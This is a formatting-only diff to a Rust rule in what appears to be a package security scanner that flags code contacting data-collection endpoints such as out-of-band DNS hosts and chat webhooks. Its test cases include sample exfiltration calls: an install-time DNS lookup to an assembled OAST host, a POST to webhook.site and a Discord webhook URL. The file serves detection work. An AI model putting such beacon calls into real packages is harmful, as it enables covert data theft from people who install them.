@@ -42,13 +42,16 @@ impl Rule for CollectorEndpoint {
     fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
         let mut seen = HashSet::new();
         for n in &ctx.facts.network {
-            let Some(class) = n.collector.as_deref() else { continue };
+            let Some(class) = n.collector.as_deref() else {
+                continue;
+            };
             if class == "raw-ip" || class == "webhook-url" {
                 continue;
             }
             // A bare host name in a string (no scheme, no call) is data more
             // often than a destination: domain lists, suffix tables.
-            let bare = n.api.is_none() && !n.destination.as_deref().is_some_and(|d| d.contains("://"));
+            let bare =
+                n.api.is_none() && !n.destination.as_deref().is_some_and(|d| d.contains("://"));
             if bare && !n.at.install_time {
                 continue;
             }
@@ -70,7 +73,11 @@ impl Rule for CollectorEndpoint {
                 "chat-webhook" => "a chat incoming webhook",
                 _ => "a collection endpoint",
             };
-            let when = if n.at.install_time { " in install-time code" } else { "" };
+            let when = if n.at.install_time {
+                " in install-time code"
+            } else {
+                ""
+            };
             out.push(
                 ctx.at(
                     Finding::new(Self::META.id, severity, format!("`{host}` is {what}{when}")),
@@ -92,7 +99,9 @@ mod tests {
     fn rule() {
         Tester::new(&CollectorEndpoint::META).test(
             &[
-                Case::InstallJs("const h = 'x1.oast' + '.fun'; require('dns').lookup(h, () => {});"),
+                Case::InstallJs(
+                    "const h = 'x1.oast' + '.fun'; require('dns').lookup(h, () => {});",
+                ),
                 Case::Js("fetch('https://webhook.site/0000-1111', { method: 'POST' });"),
                 Case::Js("const u = `https://discord.com/api/webhooks/${id}/${tok}`;"),
             ],
